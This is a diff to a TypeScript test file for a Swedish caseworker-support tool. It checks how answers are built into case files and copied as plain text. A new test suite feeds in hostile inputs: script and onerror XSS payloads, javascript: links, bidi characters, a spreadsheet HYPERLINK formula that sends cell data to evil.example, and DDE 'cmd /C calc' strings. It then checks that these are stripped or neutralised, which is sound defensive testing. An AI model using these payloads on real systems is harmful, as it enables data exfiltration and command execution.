@@ -66,9 +66,15 @@ const input = (overrides: Partial<CaseFileInput> = {}): CaseFileInput => ({
 describe('buildCaseFile', () => {
   it('numbers the cited sources in the order the answer first cites them, one number per source', () => {
     const caseFile = buildCaseFile(input());
-    expect(caseFile.answer).toBe(
-      '**Kort svar**\nBidrag lämnas för anpassning [1]. Ansökan görs hos kommunen [2]. Bidrag lämnas bara en gång [1].',
-    );
+    expect(caseFile.answer).toEqual([
+      { type: 'heading', text: 'Kort svar' },
+      {
+        type: 'paragraph',
+        lines: [
+          'Bidrag lämnas för anpassning [1]. Ansökan görs hos kommunen [2]. Bidrag lämnas bara en gång [1].',
+        ],
+      },
+    ]);
     expect(caseFile.footnotes.map((note) => [note.number, note.section])).toEqual([
       [1, '4 §'],
       [2, '7 §'],
@@ -129,7 +135,9 @@ describe('buildCaseFile', () => {
         version: null,
       }),
     );
-    expect(caseFile.answer).toBe('Inget stöd (5 § lag (1999:1) om annat).');
+    expect(caseFile.answer).toEqual([
+      { type: 'paragraph', lines: ['Inget stöd (5 § lag (1999:1) om annat).'] },
+    ]);
     expect(caseFile.footnotes).toEqual([]);
     expect(caseFile.validationSummary).toBeNull();
     expect(caseFile.producedBy).toBe('Handläggarstöd (okänd version)');
@@ -164,11 +172,61 @@ describe('caseFileText', () => {
         'Validering: 2 av 3 påståenden stöds av källorna.',
         '',
         'Påståenden som valideringen inte bekräftade:',
-        '- Ej bekräftat: ”Bidraget betalas inom en vecka” (Låg överensstämmelse med källmaterial)',
+        '• Ej bekräftat: ”Bidraget betalas inom en vecka” (Låg överensstämmelse med källmaterial)',
         '',
         'Framtaget med Handläggarstöd 1.4.0 den 2026-11-26.',
         '',
       ].join('\n'),
     );
+  });
+});
+
+describe('a hostile answer', () => {
+  const hostile = [
+    '**Kort svar**',
+    'Ja \u202Eom\u202C upplåtelsen är lång\u200Bvarig (4 § lag (2018:222) om bostadsanpassningsbidrag).',
+    '<script>alert("x")</script><b>Fet</b> text med [en länk](javascript:alert(1)) och javascript:alert(2) kvar.',
+    '<a href="javascript:alert(3)">Öppna länken</a> och <img src=x onerror="alert(4)">bilden.',
+    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
+    '+SUM(1;2)',
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1;2)',
+    '- en punkt som börjar med =1+1',
+    '\u2066\u2067\u2068\u2069\u200E\u200F\u061C\u200C\u200D\u2060\uFEFF',
+  ].join('\n');
+
+  const copied = () =>
+    caseFileText(
+      buildCaseFile(
+        input({
+          question: 'Gäller \u202Edet\u202C här?',
+          answer: hostile,
+          validation: { ...validation, statements: [check("=cmd|' /C calc'!A0 <b>fet</b>", 's1', false)] },
+        }),
+      ),
+    );
+
+  it('copies the text the screen shows: no markup, no javascript: links, no bidi or zero-width characters', () => {
+    const text = copied();
+    for (const left of ['<', 'script', 'onerror', 'href', 'javascript', '**', 'alert(1)']) {
+      expect(text).not.toContain(left);
+    }
+    expect(text).not.toMatch(/[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/);
+    expect(text).toContain('Fråga: Gäller det här?');
+    expect(text).toContain('Ja om upplåtelsen är långvarig [1].');
+    expect(text).toContain('Fet text med en länk och kvar.');
+    expect(text).not.toContain('alert("x")');
+    expect(text).toContain('Öppna länken och bilden.');
+    expect(text).toContain('• en punkt som börjar med =1+1');
+  });
+
+  it('starts no line with =, +, - or @: a spreadsheet reads such a line as text', () => {
+    const lines = copied().split('\n');
+    expect(lines.filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
+    expect(lines).toContain('\'=HYPERLINK("https://evil.example/?"&A1;"Klicka")');
+    expect(lines).toContain("'+SUM(1;2)");
+    expect(lines).toContain("'@SUM(1;2)");
+    expect(lines.some((line) => line.startsWith("'-2+3+cmd|"))).toBe(true);
+    expect(lines).toContain("• Ej bekräftat: ”=cmd|' /C calc'!A0 fet”");
   });
 });
